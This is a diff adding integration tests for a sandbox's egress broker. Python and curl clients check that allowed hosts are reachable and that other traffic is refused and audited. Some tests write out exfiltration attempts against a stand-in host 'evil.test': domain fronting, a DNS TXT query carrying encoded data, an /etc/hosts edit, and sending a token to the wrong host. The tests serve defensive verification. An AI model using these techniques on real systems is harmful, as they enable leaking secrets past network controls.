@@ -1,0 +1,401 @@
+/**
+ * Egress in a real sandbox: the allowed name works for clients that use the
+ * proxy variables and for clients that ignore them; everything else fails
+ * at once and is recorded. Servers on the host loopback stand in for the
+ * internet; the broker maps every allowed name to 127.0.0.1.
+ */
+import assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
+import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { createServer as createHttp, type Server } from 'node:http';
+import { createServer as createHttps } from 'node:https';
+import { createServer as createTcp, type AddressInfo } from 'node:net';
+import path from 'node:path';
+import { after, before, describe, it } from 'node:test';
+import { run } from '../../src/index.js';
+import type { NetEvent } from '../../src/net/broker.js';
+import type { PolicyFile } from '../../src/policy/schema.js';
+import { hasCgroup, sandboxFixture, tempDir, ward, which } from '../helpers.js';
+
+const fx = sandboxFixture();
+const servers: Server[] = [];
+let httpPort = 0;
+let httpsPort = 0;
+let bannerPort = 0;
+let localPort = 0;
+let otherLocalPort = 0;
+let authPort = 0;
+let testCa = '';
+const authSeen: string[] = []; // the Authorization header (and any X-Other) each request to the credential host carried
+const seen: string[] = []; // "host url" of every request the stand-in internet received
+
+const listen = (s: Server) =>
+  new Promise<number>((r) => {
+    servers.push(s);
+    s.listen(0, '127.0.0.1', () => r((s.address() as AddressInfo).port));
+  });
+
+before(async () => {
+  const certDir = tempDir();
+  execFileSync('openssl', [
+    'req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-days', '1', '-subj', '/CN=api.test',
+    '-addext', 'subjectAltName=DNS:api.test,DNS:evil.test',
+    '-keyout', path.join(certDir, 'key.pem'), '-out', path.join(certDir, 'cert.pem'),
+  ], { stdio: 'ignore' });
+  // The sandbox trusts the test CA through a file in its workspace.
+  writeFileSync(path.join(fx.ws, 'ca.pem'), readFileSync(path.join(certDir, 'cert.pem')));
+  const handler = (req: { headers: { host?: string }; url?: string }, res: { end(s: string): void }) => {
+    seen.push(`${req.headers.host} ${req.url}`);
+    res.end(`hello ${req.url}\n`);
+  };
+  testCa = readFileSync(path.join(certDir, 'cert.pem'), 'utf8');
+  authPort = await listen(
+    createHttps({ key: readFileSync(path.join(certDir, 'key.pem')), cert: testCa }, (req, res) => {
+      authSeen.push(`${req.headers.authorization ?? '-'} ${req.headers['x-other'] ?? '-'}`);
+      res.end(`auth ${req.headers.authorization ?? 'none'}\n`);
+    }),
+  );
+  httpPort = await listen(createHttp(handler));
+  httpsPort = await listen(createHttps({ key: readFileSync(path.join(certDir, 'key.pem')), cert: readFileSync(path.join(certDir, 'cert.pem')) }, handler));
+  bannerPort = await listen(createTcp((s) => s.end('SSH-2.0-stand-in\r\n')) as unknown as Server);
+  localPort = await listen(createTcp((s) => s.end('LOCAL-DEV-SERVER\n')) as unknown as Server);
+  otherLocalPort = await listen(createTcp((s) => s.end('OTHER-HOST-SERVICE\n')) as unknown as Server);
+});
+
+after(() => {
+  for (const s of servers) s.close();
+});
+
+function policy(): PolicyFile {
+  return {
+    extends: ['default'],
+    network: { allow: [`api.test:${httpPort}`, `api.test:${httpsPort}`, `*.pkg.test:${httpPort}`, `git.test:${bannerPort}`], allow_local: [localPort] },
+  } as PolicyFile;
+}
+
+async function sandboxed(argv: string[]) {
+  const r = await run({ policy: policy() }, argv, {
+    workspace: fx.ws,
+    env: fx.env,
+    stdin: 'ignore',
+    allowDegraded: !hasCgroup,
+    egress: { resolve: async () => '127.0.0.1' },
+  });
+  return { ...r, out: r.stdout.toString() + r.stderr.toString() };
+}
+
+const py = (code: string) => sandboxed(['python3', '-c', code]);
+const denied = (events: NetEvent[]) => events.filter((e) => e.verdict === 'deny');
+
+describe('egress through the broker, in a real sandbox', () => {
+  it('a client that ignores proxy variables reaches an allowed name by a raw connect()', async () => {
+    const r = await py(`
+import socket
+ip = socket.gethostbyname('api.test')
+print('resolved', ip)
+s = socket.create_connection(('api.test', ${httpPort}), timeout=5)
+s.sendall(b'GET /raw HTTP/1.1\\r\\nHost: api.test\\r\\nConnection: close\\r\\n\\r\\n')
+data = b''
+while True:
+    chunk = s.recv(4096)
+    if not chunk: break
+    data += chunk
+print(data.decode().splitlines()[-1])
+`);
+    assert.equal(r.exitCode, 0, r.out);
+    assert.match(r.out, /resolved 127\.100\.\d+\.\d+/);
+    assert.match(r.out, /hello \/raw/);
+    const conn = r.net.find((e) => e.kind === 'connect' && e.port === httpPort);
+    assert.equal(conn?.verdict, 'allow');
+    assert.equal(conn?.host, 'api.test');
+    assert.ok((conn?.bytes_in ?? 0) > 0 && (conn?.bytes_out ?? 0) > 0, JSON.stringify(conn));
+  });
+
+  it('curl (proxy variables) and wget work for allowed names, HTTP and HTTPS', { skip: !which('curl') && 'curl is not installed' }, async () => {
+    const r = await sandboxed([
+      'sh', '-c',
+      `curl -sS --cacert ca.pem https://api.test:${httpsPort}/tls && curl -sS http://api.test:${httpPort}/plain && curl -sS http://a.b.pkg.test:${httpPort}/wild` +
+        (which('wget') ? ` && wget -q -O - http://api.test:${httpPort}/wget` : ''),
+    ]);
+    assert.equal(r.exitCode, 0, r.out);
+    assert.match(r.out, /hello \/tls/);
+    assert.match(r.out, /hello \/plain/);
+    assert.match(r.out, /hello \/wild/);
+    assert.ok(r.net.some((e) => e.kind === 'proxy' && e.verdict === 'allow' && e.port === httpsPort));
+  });
+
+  it("Node's fetch (no proxy support in Node 20) and Python's ssl with SNI work through DNS and the relay", async () => {
+    const node = await sandboxed([process.execPath, '-e', `fetch('http://api.test:${httpPort}/fetch').then(r=>r.text()).then(t=>console.log(t.trim()),e=>{console.log('ERR',e.cause?.code||e);process.exit(1)})`]);
+    assert.equal(node.exitCode, 0, node.out);
+    assert.match(node.out, /hello \/fetch/);
+    const tls = await py(`
+import socket, ssl
+ctx = ssl.create_default_context(cafile='ca.pem')
+with socket.create_connection(('api.test', ${httpsPort}), timeout=5) as raw:
+    with ctx.wrap_socket(raw, server_hostname='api.test') as s:
+        s.sendall(b'GET /py-tls HTTP/1.1\\r\\nHost: api.test\\r\\nConnection: close\\r\\n\\r\\n')
+        print(s.recv(4096).decode().splitlines()[0])
+`);
+    assert.equal(tls.exitCode, 0, tls.out);
+    assert.match(tls.out, /HTTP\/1\.1 200/);
+  });
+
+  it('domain fronting: a TLS SNI other than the name the client resolved is refused', async () => {
+    const r = await py(`
+import socket, ssl
+ctx = ssl.create_default_context(cafile='ca.pem')
+raw = socket.create_connection(('api.test', ${httpsPort}), timeout=5)
+try:
+    s = ctx.wrap_socket(raw, server_hostname='evil.test')
+    s.sendall(b'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')
+    print('FRONTED', s.recv(100))
+except (ssl.SSLError, ConnectionError, OSError) as e:
+    print('refused', type(e).__name__)
+`);
+    assert.doesNotMatch(r.out, /FRONTED/);
+    assert.match(r.out, /refused/);
+    assert.ok(denied(r.net).some((e) => e.reason === 'sni-mismatch'), JSON.stringify(r.net));
+  });
+
+  it('a wrong Host header over plain HTTP is refused', async () => {
+    const r = await py(`
+import socket
+s = socket.create_connection(('api.test', ${httpPort}), timeout=5)
+s.sendall(b'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')
+print('got', s.recv(100))
+`);
+    assert.doesNotMatch(r.out, /hello/);
+    assert.ok(denied(r.net).some((e) => e.reason === 'host-mismatch'), JSON.stringify(r.net));
+  });
+
+  it('a server-first protocol (an SSH-like banner) works on an allowed name', async () => {
+    const r = await py(`
+import socket
+s = socket.create_connection(('git.test', ${bannerPort}), timeout=5)
+print(s.recv(100).decode().strip())
+`);
+    assert.equal(r.exitCode, 0, r.out);
+    assert.match(r.out, /SSH-2\.0-stand-in/);
+  });
+
+  it('names not allowed get NXDOMAIN, also for TXT (DNS exfiltration); each query is recorded', async () => {
+    const r = await py(`
+import socket, struct, random
+try:
+    socket.gethostbyname('evil.test'); print('RESOLVED evil.test')
+except socket.gaierror as e: print('evil.test', e.errno)
+# A hand-made TXT query for a name carrying data, straight to the resolver in resolv.conf.
+name = b''.join(bytes([len(l)]) + l for l in [b'c2VjcmV0', b'exfil', b'evil', b'test']) + b'\\0'
+q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + name + struct.pack('>HH', 16, 1)
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5)
+u.sendto(q, ('127.0.0.1', 53))
+resp = u.recv(512)
+print('rcode', resp[3] & 15, 'answers', struct.unpack('>H', resp[6:8])[0])
+`);
+    assert.doesNotMatch(r.out, /RESOLVED/);
+    assert.match(r.out, /rcode 3 answers 0/);
+    const dns = denied(r.net).filter((e) => e.kind === 'dns');
+    assert.ok(dns.some((e) => e.host === 'evil.test'), JSON.stringify(dns));
+    assert.ok(dns.some((e) => e.host === 'c2vjcmv0.exfil.evil.test' || e.host === 'c2VjcmV0.exfil.evil.test'.toLowerCase()), JSON.stringify(dns));
+  });
+
+  it('DNS over TCP to the resolver answers like UDP (allowed: synthetic address; other: NXDOMAIN)', async () => {
+    const r = await py(`
+import socket, struct
+def ask(name):
+    q = struct.pack('>HHHHHH', 7, 0x0100, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0' + struct.pack('>HH', 1, 1)
+    s = socket.create_connection(('127.0.0.1', 53), timeout=5)
+    s.sendall(struct.pack('>H', len(q)) + q)
+    n = struct.unpack('>H', s.recv(2))[0]
+    r = b''
+    while len(r) < n: r += s.recv(n - len(r))
+    print(name, 'rcode', r[3] & 15, 'answer', socket.inet_ntoa(r[-4:]) if struct.unpack('>H', r[6:8])[0] else '-')
+ask('api.test'); ask('evil.test')
+`);
+    assert.match(r.out, /^api\.test rcode 0 answer 127\.100\.\d+\.\d+$/m, r.out);
+    assert.match(r.out, /^evil\.test rcode 3 answer -$/m, r.out);
+  });
+
+  it('direct IPs, IPv6, UDP and ports not allowed fail at once; /etc/hosts cannot be edited', async () => {
+    const r = await py(`
+import socket, errno
+def attempt(label, fn):
+    try:
+        fn(); print(label, 'OPEN')
+    except OSError as e:
+        print(label, errno.errorcode.get(e.errno, e.errno) if e.errno else type(e).__name__)
+attempt('ip', lambda: socket.create_connection(('93.184.216.34', 443), timeout=3))
+attempt('ip6', lambda: socket.create_connection(('2606:2800:220:1::', 443), timeout=3))
+attempt('udp', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 53)))
+def port():
+    s = socket.create_connection(('api.test', 22), timeout=3)
+    if not s.recv(10): raise ConnectionResetError(errno.ECONNRESET, 'closed')
+attempt('port', port)
+attempt('hosts', lambda: open('/etc/hosts', 'a').write('127.0.0.1 evil.test\\n'))
+`);
+    assert.match(r.out, /^ip ENETUNREACH$/m);
+    assert.match(r.out, /^ip6 (ENETUNREACH|EADDRNOTAVAIL)$/m);
+    assert.match(r.out, /^udp ENETUNREACH$/m);
+    assert.match(r.out, /^port (ECONNREFUSED|ECONNRESET)$/m);
+    assert.match(r.out, /^hosts (EROFS|EACCES|EPERM)$/m);
+    assert.doesNotMatch(r.out, /OPEN/);
+  });
+
+  it('the proxy refuses a name that is not allowed with a 403 naming the rule to add', async () => {
+    const r = await sandboxed(['curl', '-sS', '-i', `http://evil.test:${httpPort}/`]);
+    assert.match(r.out, /HTTP\/1\.1 403/);
+    assert.match(r.out, new RegExp(`add "evil\\.test:${httpPort}" to network\\.allow`));
+    const https = await sandboxed(['curl', '-sS', `https://evil.test:${httpsPort}/`]);
+    assert.notEqual(https.exitCode, 0);
+    assert.ok(denied(https.net).some((e) => e.kind === 'proxy' && e.host === 'evil.test'), JSON.stringify(https.net));
+  });
+
+  it('allow_local reaches the listed host loopback port and no other', async () => {
+    const r = await py(`
+import socket
+print(socket.create_connection(('127.0.0.1', ${localPort}), timeout=3).recv(100).decode().strip())
+try:
+    s = socket.create_connection(('127.0.0.1', ${otherLocalPort}), timeout=3); print('OTHER', s.recv(100))
+except OSError as e: print('other refused', e.errno)
+`);
+    assert.match(r.out, /LOCAL-DEV-SERVER/);
+    assert.doesNotMatch(r.out, /OTHER-HOST-SERVICE/);
+    assert.match(r.out, /other refused/);
+  });
+
+  it('every decision is in the audit log, between the run\'s launch and exit records, and the log verifies', async () => {
+    const r = await py(`
+import socket
+for name in ['api.test', 'not-allowed.test']:
+    try: socket.gethostbyname(name)
+    except OSError: pass
+`);
+    assert.equal(r.exitCode, 0, r.out);
+    const log = path.join(fx.home, '.local/state/ward/audit.jsonl');
+    const records = readFileSync(log, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
+    const launchAt = records.findIndex((x) => x.type === 'launch' && JSON.stringify(x.argv).includes('not-allowed.test'));
+    assert.ok(launchAt >= 0, 'the launch record is in the log');
+    const runId = records[launchAt]!.run_id;
+    const ofRun = records.filter((x) => x.run_id === runId).map((x) => `${String(x.type)}${x.type === 'net' ? ` ${String(x.verdict)} ${String(x.host)}` : ''}`);
+    assert.equal(ofRun[0], 'launch');
+    assert.equal(ofRun.at(-1), 'exit');
+    assert.ok(ofRun.includes('net allow api.test'), ofRun.join(', '));
+    assert.ok(ofRun.includes('net deny not-allowed.test'), ofRun.join(', '));
+    const verified = ward(['audit', 'verify', log], { env: fx.env });
+    assert.equal(verified.code, 0, verified.stdout + verified.stderr);
+    const shown = ward(['audit', 'show', log], { env: fx.env });
+    assert.match(shown.stdout, /net dns\s+not-allowed\.test A\s+DENIED \(not-allowed\)/);
+  });
+
+  it('the launch record names the egress path in force; nothing reached the stand-in internet but allowed requests', async () => {
+    const r = await sandboxed(['true']);
+    assert.deepEqual(r.launch.layers.network?.allow_local, [localPort]);
+    assert.ok(r.launch.layers.network?.allow.includes(`api.test:${httpPort}`));
+    for (const line of seen) assert.match(line, /^(api\.test|a\.b\.pkg\.test)(:\d+)? \//, line);
+  });
+
+  it('git clones over http from an allowed host', { skip: !which('git') && 'git is not installed' }, async () => {
+    // A static file server is enough: git falls back to the dumb HTTP protocol for a bare
+    // repository prepared with update-server-info.
+    const repo = path.join(fx.ws, 'srv');
+    mkdirSync(repo);
+    execFileSync('git', ['init', '-q', '--bare', path.join(repo, 'r.git')]);
+    const work = tempDir();
+    execFileSync('sh', ['-c', `cd ${work} && git init -q && git -c user.email=a@b -c user.name=a commit -q --allow-empty -m one && git push -q ${path.join(repo, 'r.git')} HEAD:refs/heads/main && cd ${path.join(repo, 'r.git')} && git symbolic-ref HEAD refs/heads/main && git update-server-info`]);
+    const files = createHttp((req, res) => {
+      try {
+        res.end(readFileSync(path.join(repo, decodeURIComponent((req.url ?? '/').split('?')[0]!))));
+      } catch {
+        res.statusCode = 404;
+        res.end();
+      }
+    });
+    const port = await listen(files);
+    const r = await run({ policy: { extends: ['default'], network: { allow: [`api.test:${port}`] } } as PolicyFile }, ['git', 'clone', '-q', `http://api.test:${port}/r.git`, 'cloned'], {
+      workspace: fx.ws,
+      env: fx.env,
+      stdin: 'ignore',
+      allowDegraded: !hasCgroup,
+      egress: { resolve: async () => '127.0.0.1' },
+    });
+    assert.equal(r.exitCode, 0, r.stderr.toString());
+    assert.match(execFileSync('git', ['-C', path.join(fx.ws, 'cloned'), 'log', '--format=%s']).toString(), /one/);
+  });
+
+  it('a brokered credential: the sandbox holds a placeholder; the real value is added on the way to its host only', async () => {
+    const secretValue = `s3cr3t-${process.pid}-value`;
+    const pol = {
+      extends: ['default'],
+      network: { allow: [`api.test:${authPort}`, `api.test:${httpPort}`] },
+      secrets: { API_TOKEN: { from_env: 'WARD_TEST_TOKEN', hosts: [`api.test:${authPort}`], header: 'Authorization' } },
+    } as PolicyFile;
+    const go = (argv: string[]) =>
+      run({ policy: pol }, argv, {
+        workspace: fx.ws,
+        env: { ...fx.env, WARD_TEST_TOKEN: secretValue },
+        stdin: 'ignore',
+        allowDegraded: !hasCgroup,
+        egress: { resolve: async () => '127.0.0.1', upstreamCa: [testCa] },
+      });
+    authSeen.length = 0;
+    const r = await go([
+      'sh',
+      '-c',
+      [
+        'echo "inside: $API_TOKEN"',
+        'env | grep -c s3cr3t || true',
+        // through the proxy, and raw (no proxy): curl trusts the run's CA through CURL_CA_BUNDLE
+        `curl -sS -H "Authorization: Bearer $API_TOKEN" https://api.test:${authPort}/proxy`,
+        `curl -sS --noproxy '*' -H "Authorization: Bearer $API_TOKEN" https://api.test:${authPort}/raw`,
+      ].join('; '),
+    ]);
+    const out = r.stdout.toString() + r.stderr.toString();
+    assert.equal(r.exitCode, 0, out);
+    assert.match(out, /^inside: ward-secret-API_TOKEN-[0-9a-f]{24}$/m);
+    assert.match(out, /^0$/m, 'no variable inside holds the value');
+    assert.equal((out.match(new RegExp(`auth Bearer ${secretValue}`, 'g')) ?? []).length, 2, out);
+    assert.deepEqual(authSeen, [`Bearer ${secretValue} -`, `Bearer ${secretValue} -`]);
+    const carried = r.net.filter((e) => e.secrets?.includes('API_TOKEN') && e.verdict === 'allow');
+    assert.equal(carried.length, 2, JSON.stringify(r.net));
+    assert.doesNotMatch(JSON.stringify(r.net) + JSON.stringify(r.launch), new RegExp(secretValue), 'the value is in no record');
+    assert.deepEqual(r.launch.layers.network?.secrets, [{ name: 'API_TOKEN', hosts: [`api.test:${authPort}`], source: 'env WARD_TEST_TOKEN' }]);
+
+    authSeen.length = 0;
+    const misuse = await go([
+      'sh',
+      '-c',
+      [
+        // to an allowed host that is not the credential's: refused where Ward can see it (plain HTTP)
+        `curl -sS -o /dev/null -w "other %{http_code}\\n" -H "Authorization: Bearer $API_TOKEN" http://api.test:${httpPort}/leak`,
+        `curl -sS --noproxy '*' -o /dev/null -w "other-raw %{http_code}\\n" -H "Authorization: Bearer $API_TOKEN" http://api.test:${httpPort}/leak || echo other-raw refused`,
+        // to its host, but in another header than the one the policy names
+        `curl -sS -o /dev/null -w "header %{http_code}\\n" -H "X-Other: $API_TOKEN" https://api.test:${authPort}/x || echo header refused`,
+      ].join('; '),
+    ]);
+    const mout = misuse.stdout.toString() + misuse.stderr.toString();
+    assert.match(mout, /^other 403$/m, mout);
+    assert.match(mout, /other-raw (refused|000)/, mout);
+    assert.match(mout, /header (refused|000)/, mout);
+    assert.deepEqual(authSeen, [], 'the credential host saw no request');
+    assert.ok(!seen.some((l) => l.includes('/leak')), 'the other host saw no request carrying the placeholder');
+    const reasons = misuse.net.filter((e) => e.verdict === 'deny').map((e) => e.reason);
+    assert.ok(reasons.includes('secret-to-other-host'), reasons.join(','));
+    assert.ok(reasons.includes('secret-misuse'), reasons.join(','));
+  });
+
+  it('a brokered credential must name allowed hosts, and its file must not be readable inside', async () => {
+    const base = { extends: ['default'], network: { allow: ['api.test:443'] } };
+    await assert.rejects(
+      run({ policy: { ...base, secrets: { T: { from_env: 'X', hosts: ['other.test:443'] } } } as PolicyFile }, ['true'], { workspace: fx.ws, env: fx.env }),
+      /other\.test:443" is not in network\.allow/,
+    );
+    await assert.rejects(
+      run({ policy: { ...base, secrets: { T: { from_file: '${WORKSPACE}/token', hosts: ['api.test:443'] } } } as PolicyFile }, ['true'], { workspace: fx.ws, env: fx.env }),
+      /inside a filesystem grant/,
+    );
+    await assert.rejects(
+      run({ policy: { ...base, secrets: { T: { from_env: 'WARD_UNSET_VARIABLE', hosts: ['api.test:443'] } } } as PolicyFile }, ['true'], { workspace: fx.ws, env: fx.env, allowDegraded: !hasCgroup }),
+      /\$WARD_UNSET_VARIABLE is not set/,
+    );
+  });
+});
